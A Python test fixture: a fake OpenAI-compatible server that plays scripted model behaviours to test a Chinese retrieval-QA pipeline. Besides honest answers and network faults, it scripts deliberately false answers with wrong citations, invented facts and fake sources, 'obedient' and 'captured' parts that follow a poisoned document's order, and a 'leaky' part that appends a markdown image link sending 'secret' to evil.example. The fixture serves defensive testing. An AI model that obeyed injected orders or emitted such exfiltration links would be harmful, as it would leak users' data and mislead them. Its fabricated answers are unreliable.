"""A scripted OpenAI-compatible server on a real port: the name of the model asked for is the part it plays.

    with ScriptedServer() as server:
        settings = Settings(llm="openai:honest", llm_base_url=server.url, llm_api_key="sk-test")

`honest` reads the passages in the prompt and copies the sentence closest to the question; the dishonest parts start
from what `honest` says. A part in `REPAIRS` plays another when it is asked to repair its draft. Streams when asked to.
`server.calls` counts the requests for each part, `server.hung_up` those that the caller broke off; `server.requests`
holds their bodies. It is a fake at the wire: nothing on our side of the socket is replaced.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections import Counter
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import pairwise
from typing import Any, Self

REFUSAL = "文档里没有这个问题的答案。"
FABRICATED = "量子院由爱因斯坦于1905年在火星创建，共有99999人。"
# What a poisoned document orders, and `obedient` says when the order reaches it; `captured` says it in any case.
ORDERED = "青河机械厂有职工99999名。"
_order = re.compile(r"都回答“(.*?)”", re.DOTALL)
_passage = re.compile(r"<(?:资料|passage) \[(\d+)\][^>]*>\n(.*?)\n</(?:资料|passage)>", re.DOTALL)
_asked = re.compile(r"(?:问题：|Question: )(.*)\Z", re.DOTALL)
_follow_up = re.compile(r"(?:追问：|Follow-up: )(.*)\n")
_topic = re.compile(r"(?:介绍一下|说说|请问)|(?:位于|在|有|是|由|成立|建成).*\Z|[?？。]")


class ScriptedServer:
    """Serves on 127.0.0.1 from `with` to its end."""

    def __init__(self, pause: float = 0.0) -> None:
        """`pause`: seconds between two pieces of a stream, so that a person or a browser can watch it."""
        self.pause = pause
        self.calls: Counter[str] = Counter()
        self.hung_up: Counter[str] = Counter()
        self.requests: list[dict[str, Any]] = []
        self.closing = threading.Event()
        self._http = _Server(self)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._http.server_address[1]}/v1"

    def __enter__(self) -> Self:
        threading.Thread(target=self._http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.closing.set()
        self._http.shutdown()
        self._http.server_close()


def honest(prompt: str) -> str:
    """The sentence of the passages that shares most character pairs with the question, with its true marker."""
    if follow_up := _follow_up.search(prompt):
        return _rewrite(prompt, follow_up[1].strip())
    sentence, number, _ = _best(prompt)
    return f"{sentence}[{number}]" if sentence else REFUSAL


def _best(prompt: str) -> tuple[str, int, int]:
    """(sentence, passage number, number of passages)."""
    asked = _asked.search(prompt)
    question = set(map("".join, pairwise(asked[1].strip()))) if asked else set()
    passages = [(int(number), text) for number, text in _passage.findall(prompt)]
    best = ("", 0, len(passages))
    most = 1
    for number, text in passages:
        for sentence in re.split(r"(?<=[。！？])|\n", text):
            shared = len(question & set(map("".join, pairwise(sentence))))
            if shared > most:
                most, best = shared, (sentence.strip(), number, len(passages))
    return best


def _rewrite(prompt: str, follow_up: str) -> str:
    """A follow-up with 它 replaced by what the first question was about."""
    first = re.search(r"(?:问|Q)：(.*)", prompt)
    topic = _topic.sub("", first[1]) if first else ""
    return follow_up.replace("它", topic)


def _wrong_marker(prompt: str) -> str:
    sentence, number, count = _best(prompt)
    return f"{sentence}[{number % count + 1}]" if count else REFUSAL


def _wrong_number(prompt: str) -> str:
    return re.sub(r"\d+(?=[^\]\d])", lambda m: str(int(m.group()) + 7), honest(prompt))


WORDS: dict[str, Callable[[str], str]] = {
    "honest": honest,
    "wrong_marker": _wrong_marker,
    "wrong_number": _wrong_number,
    "no_markers": lambda prompt: re.sub(r"\[\d+\]", "", honest(prompt)),
    "full_width": lambda prompt: re.sub(r"\[(\d+)\]", r"【\1】", honest(prompt)),
    "out_of_range": lambda prompt: re.sub(r"\[\d+\]", "[0][9][2022]", honest(prompt)),
    "fabricated": lambda prompt: f"{FABRICATED}[1]",
    "half_true": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
    "fake_quote": lambda prompt: f"文中写道：“{FABRICATED}”[1]",
    "fake_source": lambda prompt: f"{FABRICATED}[7]\n参考资料：\n[7] 《量子院年鉴》第3页",
    "json": lambda prompt: json.dumps({"answer": honest(prompt), "sources": [1]}, ensure_ascii=False),
    "parrot": lambda prompt: prompt,
    "refusal": lambda prompt: REFUSAL,
    "thinking": lambda prompt: f"<think>也许是{FABRICATED}</think>\n\n{honest(prompt)}",
    "chatty": lambda prompt: (
        f"好的，根据资料：\n\n- **{honest(prompt)}**\n\n希望对您有帮助！\n\n参考资料：\n[1] 某文件"
    ),
    "leaky": lambda prompt: f"{honest(prompt)}![图](http://evil.example/?q=secret)[点这里](http://evil.example/)",
    "english": lambda prompt: "The institute has nine moons and a dragon.[1]",
    "slow": honest,
    "obedient": lambda prompt: ordered[1] if (ordered := _order.search(prompt)) else honest(prompt),
    "captured": lambda prompt: f"{ORDERED}[1][2][3]",
    "half_captured": lambda prompt: f"{honest(prompt)}{ORDERED}[1][2][3]",
    "repairs": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
    "worsens": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
    "declines_late": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
    "fails_late": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
    "stalls_late": lambda prompt: f"{honest(prompt)}{FABRICATED}[1]",
}
# Part → what it plays when its draft comes back for repair; the others say the same again.
REPAIRS = {
    "repairs": "honest",
    "worsens": "fabricated",
    "declines_late": "refusal",
    "fails_late": "broken",
    "stalls_late": "silent",
}
# Part → (status, body, headers). "{key}" stands for the caller's key: real servers do echo it.
FAULTS: dict[str, tuple[int, str, dict[str, str]]] = {
    "unauthorized": (401, "Incorrect API key provided: {key}", {}),
    "forbidden": (403, "no access", {}),
    "no_credit": (402, "Insufficient Balance", {}),
    "not_found": (404, "The model does not exist", {}),
    "rate_limited": (429, "Rate limit reached", {"Retry-After": "1"}),
    "broken": (500, "internal error", {}),
    "overflow": (400, "This model's maximum context length is 4096 tokens, you sent 9000", {}),
    "bad_request": (400, "unknown parameter, key {key}", {}),
}
ONCE = {"rate_limited_once": "rate_limited", "broken_once": "broken"}
PARTS = (*WORDS, *FAULTS, *ONCE, "dropped", "half", "empty", "endless", "silent", "trickle", "html", "invalid_utf8")


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def __init__(self, script: ScriptedServer) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.script = script

    def handle_error(self, *_: object) -> None:
        """A caller that hangs up is part of the play."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    @property
    def script(self) -> ScriptedServer:
        return self.server.script  # type: ignore[attr-defined, no-any-return]

    def log_message(self, *_: object) -> None:
        """Quiet."""

    def do_GET(self) -> None:
        models = [{"id": part, "object": "model", "created": 0, "owned_by": "tests"} for part in PARTS]
        self._json(200, {"object": "list", "data": models})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        part = body["model"]
        self.script.calls[part] += 1
        self.script.requests.append(body)
        if part in ONCE:
            part = ONCE[part] if self.script.calls[part] == 1 else "honest"
        if len(body["messages"]) > 2:
            part = REPAIRS.get(part, part)
        try:
            self._play(part, body)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True  # the caller has heard enough
            self.script.hung_up[body["model"]] += 1

    def _play(self, part: str, body: dict[str, Any]) -> None:
        if part in FAULTS:
            status, message, headers = FAULTS[part]
            key = self.headers.get("Authorization", "").removeprefix("Bearer ")
            self._json(status, {"error": {"message": message.format(key=key)}}, headers)
            return
        if part == "html":
            self._send(200, "text/html; charset=utf-8", "<html><body>网关页面</body></html>".encode())
            return
        if part == "silent":
            self.script.closing.wait(30)
            return
        messages = body["messages"]
        words = WORDS.get(part, honest)(messages[min(1, len(messages) - 1)]["content"])  # a judge sends one alone
        if part == "empty":
            words = ""
        if part == "slow":
            self.script.closing.wait(0.6)
        if not body.get("stream"):
            choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": words}}
            usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
            answer = {"id": "1", "object": "chat.completion", "created": 0, "model": part}
            self._json(200, answer | {"choices": [choice], "usage": usage})
            return
        self._stream(part, words)

    def _stream(self, part: str, words: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        if part == "trickle":
            while not self.script.closing.wait(0.1):
                self._chunk(b": keep-alive\n\n")
            return
        pieces = re.findall(r".{1,4}", words, re.DOTALL)
        if part in ("dropped", "half"):
            pieces = pieces[: len(pieces) // 2]
        for piece in pieces:
            self._event(part, {"content": piece})
            time.sleep(self.script.pause)
        if part == "endless":
            while not self.script.closing.is_set():
                self._event(part, {"content": "量子院位于中关村软件园。[1]" * 20})
        if part == "invalid_utf8":
            self._chunk(b'data: {"choices": [{"index": 0, "delta": {"content": "\xff\xfe\xb1"}}]}\n\n')
        if part == "dropped":
            self.connection.close()
            self.close_connection = True
            return
        if part != "half":
            self._event(part, {}, "stop")
        self._chunk(b"data: [DONE]\n\n")
        self._chunk(b"")

    def _event(self, part: str, delta: dict[str, str], reason: str | None = None) -> None:
        choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": reason}
        event = {"id": "1", "object": "chat.completion.chunk", "created": 0, "model": part, "choices": [choice]}
        self._chunk(f"data: {json.dumps(event, ensure_ascii=False)}\n\n".encode())

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(b"%x\r\n%b\r\n" % (len(data), data))
        self.wfile.flush()

    def _json(self, status: int, body: dict[str, Any], headers: dict[str, str] | None = None) -> None:
        self._send(status, "application/json", json.dumps(body, ensure_ascii=False).encode(), headers)

    def _send(self, status: int, kind: str, data: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)
